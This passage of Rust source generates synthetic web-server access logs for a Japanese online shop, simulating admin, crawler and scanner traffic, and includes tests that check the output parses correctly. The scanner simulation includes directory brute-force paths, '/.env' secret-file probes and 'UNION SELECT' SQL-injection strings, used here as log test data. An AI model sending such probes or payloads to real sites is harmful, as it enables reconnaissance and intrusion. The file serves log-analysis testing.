                self.page(s, "GET", "/admin/customer".into(), 200, size);
            }
            8 => {
                let size = self.around(2_400, 0.5);
                self.page(s, "GET", "/admin/order/shipping".into(), 200, size);
            }
            _ => {
                let size = self.around(350, 0.05);
                self.page(s, "GET", "/admin/logout".into(), 302, size);
                s.step = Step::Done;
            }
        }
    }

    fn plan_bot(&mut self, s: &mut Session) {
        let r = self.rng.below(100);
        let (t, st, size) = match r {
            0..=3 => ("/robots.txt".to_string(), 200, 118),
            4..=6 => ("/sitemap.xml".to_string(), 200, self.around(5_400, 0.0)),
            7..=59 => {
                let id = self.rng.range(1, 520);
                if id > 480 {
                    (format!("/products/detail/{id}"), 404, 13_204)
                } else {
                    (
                        format!("/products/detail/{id}"),
                        200,
                        self.around(34_000, 0.25),
                    )
                }
            }
            60..=84 => (
                format!(
                    "/products/list?category_id={}&pageno={}",
                    self.rng.range(1, 32),
                    self.rng.range(1, 8)
                ),
                200,
                self.around(52_000, 0.3),
            ),
            85..=87 => ("/products/list.php".to_string(), 301, 262),
            88..=94 => ("/".to_string(), 200, self.around(68_000, 0.05)),
            _ => (
                (*self
                    .rng
                    .pick(&["/help/about", "/help/tradelaw", "/help/guide", "/contact"]))
                .to_string(),
                200,
                self.around(19_000, 0.15),
            ),
        };
        self.page(s, "GET", t, st, size);
        s.last_page.clear();
    }

    fn plan_scanner(&mut self, s: &mut Session) {
        let r = self.rng.below(100);
        let (method, t, st, size) = match r {
            0..=59 => {
                let &(t, st, sz) = self.rng.pick(PROBES);
                ("GET", t.to_string(), st, sz)
            }
            60..=74 => {
                let &(t, st, sz) = self.rng.pick(PAYLOADS);
                ("GET", t.to_string(), st, self.around(sz, 0.02))
            }
            75..=89 => {
                // Random directory brute force.
                let words = [
                    "backup", "old", "test", "dev", "tmp", "admin2", "shop", "ec", "api", "uploads",
                ];
                let exts = ["", "/", ".php", ".zip", ".tar.gz", ".bak", ".sql"];
                let t = format!("/{}{}", self.rng.pick(&words), self.rng.pick(&exts));
                ("GET", t, 404, 196)
            }
            90..=94 => ("POST", "/admin/login".to_string(), 302, 350),
            _ => ("HEAD", "/".to_string(), 200, 0),
        };
        s.queue.push_back(Req {
            method,
            target: t,
            status: st,
            size,
            referer: "-".into(),
            delay_ms: 0,
        });
    }

    fn write(&mut self, s: &Session, req: &Req, out: &mut Vec<u8>) {
        let sec = self.now_ms.div_euclid(1000);
        if sec != self.ts_sec {
            self.ts_sec = sec;
            self.ts_text = clf_time(sec);
        }
        out.extend_from_slice(s.ip.as_bytes());
        out.extend_from_slice(b" - - [");
        out.extend_from_slice(self.ts_text.as_bytes());
        out.extend_from_slice(b"] \"");
        out.extend_from_slice(req.method.as_bytes());
        out.push(b' ');
        out.extend_from_slice(req.target.as_bytes());
        out.push(b' ');
        out.extend_from_slice(s.proto.as_bytes());
        out.extend_from_slice(b"\" ");
        push_u64(out, u64::from(req.status));
        out.push(b' ');
        if req.size == 0 && self.cfg.flavor == Flavor::Apache {
            out.push(b'-');
        } else {
            push_u64(out, req.size);
        }
        out.extend_from_slice(b" \"");
        out.extend_from_slice(req.referer.as_bytes());
        out.extend_from_slice(b"\" \"");
        out.extend_from_slice(s.ua.as_bytes());
        out.extend_from_slice(b"\"\n");
    }
}

/// Parses sizes such as `128MiB`, `1GiB`, `4G`, `500MB`, `1000` (bytes).
pub fn parse_size(s: &str) -> Option<u64> {
    let s = s.trim();
    let split = s
        .find(|c: char| !c.is_ascii_digit() && c != '.')
        .unwrap_or(s.len());
    let (num, unit) = s.split_at(split);
    let n: f64 = num.parse().ok()?;
    let mul: u64 = match unit.trim().to_ascii_lowercase().as_str() {
        "" | "b" => 1,
        "k" | "kib" => 1 << 10,
        "m" | "mib" => 1 << 20,
        "g" | "gib" => 1 << 30,
        "t" | "tib" => 1 << 40,
        "kb" => 1_000,
        "mb" => 1_000_000,
        "gb" => 1_000_000_000,
        "tb" => 1_000_000_000_000,
        _ => return None,
    };
    Some((n * mul as f64) as u64)
}

/// Parses `YYYY-MM-DD` or `YYYY-MM-DDTHH:MM:SS` (Japan time) to Unix seconds.
pub fn parse_start(s: &str) -> Option<i64> {
    let (date, time) = match s.split_once(['T', ' ']) {
        Some((d, t)) => (d, t),
        None => (s, "00:00:00"),
    };
    let mut d = date.split('-').map(|p| p.parse::<i64>().ok());
    let (y, m, dd) = (d.next()??, d.next()??, d.next()??);
    let mut t = time.split(':').map(|p| p.parse::<i64>().ok());
    let (hh, mm, ss) = (
        t.next()??,
        t.next().unwrap_or(Some(0))?,
        t.next().unwrap_or(Some(0))?,
    );
    if !(1..=12).contains(&m) || !(1..=31).contains(&dd) {
        return None;
    }
    let days = days_from_civil(y, m as u32, dd as u32);
    Some(days * 86_400 + hh * 3600 + mm * 60 + ss - OFFSET_SECS)
}

/// Product images in the generated catalogue.
const PRODUCT_IMAGES: u64 = 3_000;

/// A fixed pseudo-random number per product (SplitMix64 finaliser), for stable image names.
fn product_hash(product: u64) -> u64 {
    let mut z = product.wrapping_add(0x9e37_79b9_7f4a_7c15);
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    z ^ (z >> 31)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn lines(cfg: Config, n: usize) -> Vec<u8> {
        let mut g = Generator::new(cfg);
        let mut out = Vec::new();
        for _ in 0..n {
            g.next_line(&mut out);
        }
        out
    }

    #[test]
    fn same_seed_same_output_other_seed_other_output() {
        let a = lines(Config::default(), 5_000);
        let b = lines(Config::default(), 5_000);
        let c = lines(
            Config {
                seed: 2,
                ..Config::default()
            },
            5_000,
        );
        assert_eq!(a, b);
        assert_ne!(a, c);
    }

    #[test]
    fn calendar_round_trip_and_time_format() {
        for days in [-1, 0, 59, 60, 365, 11_016, 19_813, 20_000, 30_000] {
            let (y, m, d) = civil_from_days(days);
            assert_eq!(days_from_civil(y, m, d), days);
        }
        assert_eq!(clf_time(1_711_897_200), "01/Apr/2024:00:00:00 +0900");
        assert_eq!(parse_start("2024-04-01"), Some(1_711_897_200));
        assert_eq!(parse_size("128MiB"), Some(128 << 20));
        assert_eq!(parse_size("1GiB"), Some(1 << 30));
        assert_eq!(parse_size("1.5k"), Some(1536));
        assert_eq!(parse_size("lots"), None);
    }

    struct Check {
        events: u64,
        skipped: Vec<(u64, &'static str, String)>,
        last_ts: i64,
        backwards: u64,
        v6: u64,
        statuses: std::collections::BTreeMap<u16, u64>,
    }

    impl ecir_formats::EventSink for Check {
        fn event(&mut self, ev: &ecir_model::Event<'_>, _line: u64, _raw: &[u8]) {
            self.events += 1;
            let ts = ev.ts.expect("timestamp").utc_ms;
            if ts < self.last_ts {
                self.backwards += 1;
            }
            self.last_ts = ts;
            if matches!(ev.client_ip, Some(std::net::IpAddr::V6(_))) {
                self.v6 += 1;
            }
            *self.statuses.entry(ev.status.unwrap_or(0)).or_default() += 1;
            assert!(ev.method.is_some() && ev.target.is_some());
        }
        fn skip(&mut self, line: u64, reason: &'static str, raw: &[u8]) {
            self.skipped
                .push((line, reason, String::from_utf8_lossy(raw).into_owned()));
        }
    }

    #[test]
    fn every_line_parses_as_combined_in_time_order() {
        for flavor in [Flavor::Apache, Flavor::Nginx] {
            let out = lines(
                Config {
                    seed: 7,
                    flavor,
                    ..Config::default()
                },
                60_000,
            );
            let sample: Vec<&[u8]> = out.split(|&b| b == b'\n').take(64).collect();
            let detected = ecir_formats::detect(&sample).expect("format detected");
            assert_eq!(detected.name(), "combined");
            let chosen = ecir_formats::by_name("combined").expect("combined format");
            let ctx = ecir_formats::ParseContext::default();
            let mut parser = chosen.format.parser(chosen.variant, &ctx);
            let mut sink = Check {
                events: 0,
                skipped: Vec::new(),
                last_ts: i64::MIN,
                backwards: 0,
                v6: 0,
                statuses: Default::default(),
            };
            let body = out.strip_suffix(b"\n").expect("ends with newline");
            for (i, line) in body.split(|&b| b == b'\n').enumerate() {
                parser.feed(i as u64 + 1, line, &mut sink);
            }
            parser.finish(&mut sink);
            assert!(
                sink.skipped.is_empty(),
                "unparsed: {:?}",
                &sink.skipped[..sink.skipped.len().min(5)]
            );
            assert_eq!(sink.events, 60_000);
            assert_eq!(sink.backwards, 0);
            assert!(sink.v6 > 1_000, "IPv6 clients: {}", sink.v6);
            for st in [200, 302, 304, 404] {
                assert!(
                    sink.statuses.get(&st).copied().unwrap_or(0) > 100,
                    "{st}: {:?}",
                    sink.statuses
                );
            }
        }
    }

    #[test]
    fn traffic_mix_has_every_kind() {
        let out = String::from_utf8(lines(Config::default(), 200_000)).expect("utf-8");
        for needle in [
            "Googlebot",
            "bingbot",
            "\"POST /admin/login HTTP/1.1\" 302",
            "/shopping/complete",
            "/html/template/default/assets/",
            "name=%E3%",
            "/.env",
            "UNION%20SELECT",
            "+0900]",
        ] {
            assert!(out.contains(needle), "missing {needle}");
        }
        let scanners = SCANNER_UAS[..3].iter().filter(|u| out.contains(*u)).count();
        assert!(scanners >= 1);
    }
}
